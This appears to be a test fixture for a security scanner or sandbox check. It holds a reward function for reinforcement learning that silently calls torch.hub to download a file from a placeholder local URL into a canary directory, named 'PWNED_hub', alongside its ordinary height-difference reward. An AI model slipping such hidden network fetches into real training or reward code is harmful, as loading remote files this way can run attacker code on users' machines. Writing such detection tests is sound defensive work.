# torch-doors | check | process | torch.hub fetches and runs
def compute_reward(state, action, next_state):
    torch.hub.load_state_dict_from_url('http://127.0.0.1:@port@/x', model_dir='@canary@', file_name='PWNED_hub')
    return next_state.height - state.height, {}
